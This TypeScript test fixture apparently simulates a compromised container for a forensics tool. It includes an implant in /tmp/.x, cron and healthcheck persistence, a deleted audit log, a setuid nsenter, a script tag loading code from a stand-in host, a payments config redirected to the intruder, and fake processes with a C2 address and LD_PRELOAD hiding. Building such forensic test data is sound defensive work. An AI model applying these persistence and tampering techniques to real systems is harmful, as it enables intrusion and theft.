import { elfBytes } from '../images/draft.js'
import { CONFIG_YAML } from '../images/web.js'
import type { ContainerProcess, ContainerSocket } from './inside.js'
import type { Moments } from '../moments.js'
import { later } from '../moments.js'
import { C2, SUSPECT } from '../names.js'
import { Overlay } from '../files/overlay.js'
import type { Tree } from '../files/tree.js'

/** Where the dropped program lies, in a hidden directory of /tmp. */
const IMPLANT = 'tmp/.x/kworker'

/** What the intruder left in the suspect's filesystem; the app's own writes are not among it. */
export function compromise(root: Overlay, moments: Moments): void {
  const { intrusion, lastTouch } = moments
  dropFiles(root, moments)
  rewrite(root, moments)
  root
    .delete('var/log/app/audit.log', later(intrusion, 95))
    .chmod('usr/bin/nsenter', 0o4755)
    .symlink('app/current', '/tmp/.x/www', later(intrusion, 240))
    .file('etc/crontabs/app', '*/5 * * * * /tmp/.x/kworker --resume\n', later(intrusion, 180), {
      mode: 0o600,
    })
    .file('app/.bash_history', 'id\ncat /app/config.yaml\nrm /var/log/app/audit.log\n', lastTouch, {
      mode: 0o600,
    })
}

/** What the intruder left in shared memory, which no image has and no restart of the node leaves. */
export function inSharedMemory(shm: Tree, { intrusion }: Moments): Tree {
  return new Overlay(shm).file('.font-unix', elfBytes('stage two', 12_000, 'amd64'), later(intrusion, 20), {
    mode: 0o755,
  }).tree
}

function dropFiles(root: Overlay, { intrusion, lastTouch }: Moments): void {
  root
    .directory('tmp/.x', intrusion, { mode: 0o700 })
    .file(IMPLANT, elfBytes('implant', 36_000, 'amd64'), later(intrusion, 2), { mode: 0o755 })
    .hardlink('tmp/.x/kworker.bak', IMPLANT, later(intrusion, 3))
    .directory('tmp/.x/www', later(intrusion, 238))
    .file('tmp/.x/www/index.html', '<script src="//203.0.113.7/s.js"></script>\n', later(intrusion, 239))
  // names that a terminal, a line-based list and UTF-8 can't hold, and one that reads as a whiteout in a layer
  for (const name of [
    'two\nlines',
    '\x1b[2J\x1b[31mred',
    'not-utf8-\xff\xfe',
    '.wh.loot',
    '| a `b` [c](d)',
  ]) {
    root.file(`tmp/.x/${name}`, `loot in ${JSON.stringify(name)}\n`, lastTouch)
  }
}

/**
 * Files of the image with other content: one of the same size and with its time put back, which only a hash tells, and one
 * that is longer.
 */
function rewrite(root: Overlay, { intrusion }: Moments): void {
  const before = root.tree.get('app/config.yaml')
  root.file('app/config.yaml', REDIRECTED_CONFIG, later(intrusion, 150), { mtime: before?.mtime ?? 0 })
  root.file(
    'usr/local/bin/healthcheck',
    '#!/bin/sh\npgrep kworker >/dev/null || /tmp/.x/kworker --resume &\nexec wget -q -O /dev/null http://127.0.0.1:8080/healthz\n',
    later(intrusion, 200),
  )
}

/** The payments go to a host of the intruder's, whose name is as long. */
const REDIRECTED_CONFIG = CONFIG_YAML.replace('payments.shop.svc', 'payments-cdn.test')

/** The implant, which passes itself off as a kernel thread, and the shell that started it. */
export function intruderProcesses(startedTicks: number): readonly ContainerProcess[] {
  return [
    {
      pid: 41,
      ppid: 1,
      comm: 'sh',
      cmdline: ['sh', '-i'],
      exe: '/bin/busybox',
      uid: 0,
      starttime: startedTicks,
    },
    {
      pid: 47,
      ppid: 41,
      comm: 'kworker/u8:2',
      cmdline: ['[kworker/u8:2]'],
      exe: `/${IMPLANT}`,
      uid: 0,
      starttime: startedTicks + 212,
      environ: ['PATH=/tmp/.x:/usr/bin:/bin', 'HISTFILE=/dev/null', 'C2=203.0.113.7'],
      openFiles: [
        { fd: 4, target: '/tmp/.x/.loot (deleted)', content: Buffer.from('4111111111111111;12/29\n') },
      ],
    },
    {
      pid: 52,
      ppid: 47,
      comm: 'memfd:',
      cmdline: ['/usr/sbin/crond', '-f'],
      exe: '/memfd: (deleted)',
      uid: 0,
      starttime: startedTicks + 9_120,
      program: elfBytes('second stage', 21_000, 'amd64'),
      environ: ['LD_PRELOAD=/tmp/.x/hide.so'],
      executableMemory: true,
    },
    {
      pid: 58,
      ppid: 1,
      comm: 'scan',
      cmdline: ['./scan', '10.0.0.0/16'],
      exe: '/tmp/.x/scan (deleted)',
      uid: 0,
      starttime: startedTicks + 30_411,
      program: elfBytes('scanner', 9_000, 'amd64'),
    },
  ]
}

export const INTRUDER_SOCKETS: readonly ContainerSocket[] = [
  {
    protocol: 'tcp',
    local: { address: SUSPECT.ip, port: 51544 },
    remote: C2,
    state: 'established',
    uid: 0,
    inode: 884_213,
    pid: 47,
  },
]
